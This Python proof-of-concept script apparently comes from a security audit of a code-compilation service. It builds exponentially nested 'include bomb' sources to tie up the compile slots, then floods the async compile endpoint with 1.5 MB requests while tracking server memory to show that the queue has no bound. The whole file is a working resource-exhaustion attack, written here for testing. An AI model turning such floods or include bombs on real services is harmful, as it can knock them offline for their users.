"""Embedded async compiles are tasks waiting on the compile semaphore with no
bound: while the slots are busy (two include bombs, finding 16), N async
requests of ~1.5 MB sources are all accepted (202) and held in memory.
Usage: python3 async_queue_unbounded.py BASE_URL PIDFILE N"""
import sys, time, random, json, threading, requests
from concurrent.futures import ThreadPoolExecutor
base, pidfile, n = sys.argv[1], sys.argv[2], int(sys.argv[3])
pid = open(pidfile).read().strip()
def rss(): return int([l for l in open(f"/proc/{pid}/status") if l.startswith("VmRSS")][0].split()[1]) // 1024
def bomb(depth=23):
    inc = {f"h{i}.h": f'#include "h{i+1}.h"\n#include "h{i+1}.h"\n' for i in range(depth)}; inc[f"h{depth}.h"] = ""
    return {"source": f'#include "h0.h"\nint f{random.randrange(10**9)}(int x) {{ return x; }}\n', "includes": inc}
print("RSS before:", rss(), "MiB")
for _ in range(2): threading.Thread(target=lambda: requests.post(base + "/v1/compile?async=true", json=bomb()), daemon=True).start()
time.sleep(1)
pad = "//" + "x" * (1_500_000) + "\n"
def sub(i):
    return requests.post(base + "/v1/compile?async=true", json={"source": pad + f"int g{i}_{random.randrange(10**9)}(int x) {{ return x; }}\n"}).status_code
t = time.time()
with ThreadPoolExecutor(8) as ex: codes = list(ex.map(sub, range(n)))
m = {l.split()[0]: l.split()[1] for l in requests.get(base + "/metrics").text.splitlines() if l.startswith(("withloop_queue_depth", "withloop_compiles_running"))}
print(f"{n} async requests of 1.5 MB in {time.time()-t:.1f}s: {dict((c, codes.count(c)) for c in set(codes))}; RSS now {rss()} MiB; {m}")
